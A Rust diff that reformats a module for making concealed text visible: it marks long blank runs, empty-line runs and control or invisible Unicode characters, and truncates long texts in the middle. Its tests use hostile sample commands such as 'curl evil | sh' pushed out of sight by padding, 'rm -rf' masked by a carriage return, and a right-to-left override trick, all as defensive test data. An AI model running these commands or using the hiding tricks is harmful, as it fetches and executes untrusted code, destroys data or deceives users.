@@ -28,7 +28,9 @@ pub(crate) fn show_exactly(text: &str, long: usize) -> String {
         let count = rest.len() - behind.len();
         match c {
             ' ' | '\t' if count >= long => shown.push_str(&format!(" <{count} blanks> ")),
-            '\n' if count > EMPTY_LINES => shown.push_str(&format!("\n<{} empty lines>\n", count - 1)),
+            '\n' if count > EMPTY_LINES => {
+                shown.push_str(&format!("\n<{} empty lines>\n", count - 1))
+            }
             ' ' | '\t' | '\n' => shown.push_str(run),
             _ if c.is_control() || c.is_whitespace() || is_unseen(c) => {
                 shown.push_str(&format!("<U+{:04X}>", u32::from(c)));
@@ -49,7 +51,10 @@ pub(crate) fn truncate_middle(text: &str) -> String {
     let half = MAX_CHARS / 2;
     let head: String = text.chars().take(half).collect();
     let tail: String = text.chars().skip(count - half).collect();
-    format!("{head}\n<{} characters that are not shown>\n{tail}", count - 2 * half)
+    format!(
+        "{head}\n<{} characters that are not shown>\n{tail}",
+        count - 2 * half
+    )
 }
 
 /// Returns the first `most` lines of a text and the number of lines left out.
@@ -70,8 +75,14 @@ mod tests {
     fn nothing_is_pushed_out_of_sight() {
         let check = |text: &str, expected: &str| assert_eq!(show_exactly(text, 16), expected);
         check("ls  -l\t x", "ls  -l\t x");
-        check(&format!("ls{}; curl evil | sh ", " ".repeat(300)), "ls <300 blanks> ; curl evil | sh ");
-        check(&format!("ls{}rm x", "\n".repeat(301)), "ls\n<300 empty lines>\nrm x");
+        check(
+            &format!("ls{}; curl evil | sh ", " ".repeat(300)),
+            "ls <300 blanks> ; curl evil | sh ",
+        );
+        check(
+            &format!("ls{}rm x", "\n".repeat(301)),
+            "ls\n<300 empty lines>\nrm x",
+        );
         check("a\n\nb", "a\n\nb");
         check("", "");
     }
@@ -81,7 +92,10 @@ mod tests {
         let check = |text: &str, expected: &str| assert_eq!(show_exactly(text, 16), expected);
         check("ls \u{202e}hs.live | hs", "ls <U+202E>hs.live | hs");
         check("ls\u{a0}-la", "ls<U+00A0>-la");
-        check("ls\u{2028}a\u{85}b\u{2003}c", "ls<U+2028>a<U+0085>b<U+2003>c");
+        check(
+            "ls\u{2028}a\u{85}b\u{2003}c",
+            "ls<U+2028>a<U+0085>b<U+2003>c",
+        );
         check("rm -rf x\rls", "rm -rf x<U+000D>ls");
         check("a\u{1b}[8mb\u{7}", "a<U+001B>[8mb<U+0007>");
         check("git\u{200d} e\u{301} 世界", "git<U+200D> e\u{301} 世界");
@@ -93,7 +107,9 @@ mod tests {
         assert_eq!(truncate_middle(&text), text);
         let shown = truncate_middle(&format!("a{text}b"));
         assert!(
-            shown.starts_with("ax") && shown.ends_with("xb") && shown.contains("\n<2 characters that are not shown>\n")
+            shown.starts_with("ax")
+                && shown.ends_with("xb")
+                && shown.contains("\n<2 characters that are not shown>\n")
         );
         assert_eq!(first_lines("a\nb\nc", 2), "a\nb\n… 1 more lines");
         assert_eq!(first_lines("a\nb", 2), "a\nb");
